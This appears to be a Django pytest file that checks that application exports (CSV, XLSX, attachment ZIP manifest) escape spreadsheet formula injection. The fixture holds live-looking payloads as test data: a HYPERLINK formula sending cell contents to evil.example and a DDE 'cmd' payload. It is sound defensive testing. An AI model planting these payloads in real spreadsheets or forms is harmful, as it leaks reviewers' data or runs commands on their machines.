"""Spreadsheet formula injection: what an applicant typed never runs as a formula in a reviewer's
spreadsheet, in any export (CSV, XLSX, the attachments ZIP's manifest, the provincial summary)."""

import csv
import io
import zipfile

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from learning_city.applications import exports as application_exports
from learning_city.forms.models import EntryFile, FormEntry
from tests.factories import UserFactory
from tests.forms.conftest import STEP_ONE, STEP_TWO, post_step

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture
def evil_submission(signed_in, applicant, form_page):
    post_step(signed_in, form_page, 1, {**STEP_ONE, "contact_name": "@SUM(1,2)"})
    post_step(signed_in, form_page, 2, {**STEP_TWO, "profile": EVIL, "meetings-0-name": "+1+cmd|' /C calc'!A0"})
    signed_in.post(f"{form_page.url}check/")
    entry = FormEntry.objects.get(user=applicant, status=FormEntry.Status.SUBMITTED)
    EntryFile.objects.create(
        entry=entry,
        field_key="evidence",
        file=SimpleUploadedFile("a.pdf", b"%PDF-1.4 x"),
        original_name="实施意见.pdf",
        content_type="application/pdf",
        size=10,
        sha256="0" * 64,
        caption=EVIL,
        copyright="-2+3",
    )
    signed_in.logout()
    return entry


@pytest.fixture
def reviewer(client, db):
    user = UserFactory(username="reviewer", is_staff=True)
    user.user_permissions.add(
        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="view_formentry")
    )
    client.force_login(user)
    return user


def test_the_csv_export_writes_formulas_as_text(client, evil_submission, reviewer):
    response = client.get(f"/admin/form-submissions/{evil_submission.page_id}/export.csv")
    _header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    assert "'" + EVIL in row and "'@SUM(1,2)" in row
    assert any("+1+cmd" in cell for cell in row)
    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_xlsx_export_holds_no_formula(client, evil_submission, reviewer):
    response = client.get(f"/admin/form-submissions/{evil_submission.page_id}/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + EVIL in [cell.value for cell in cells]


def test_the_attachments_manifest_writes_notes_as_text(client, evil_submission, reviewer):
    response = client.get(f"/admin/form-submissions/entry/{evil_submission.pk}/attachments.zip")
    manifest = zipfile.ZipFile(io.BytesIO(response.content)).read("manifest.txt").decode()
    rows = list(csv.reader(io.StringIO(manifest), delimiter="\t"))
    (line,) = [row for row in rows if row[0] == "evidence/01-实施意见.pdf"]
    assert line[-2:] == ["'" + EVIL, "'-2+3"]


def test_the_provincial_summary_uses_the_same_rule():
    # One rule for every export: the review exports escape exactly as the form exports do.
    from learning_city import spreadsheets

    assert application_exports.excel_safe is spreadsheets.excel_safe
    assert spreadsheets.excel_safe(EVIL) == "'" + EVIL
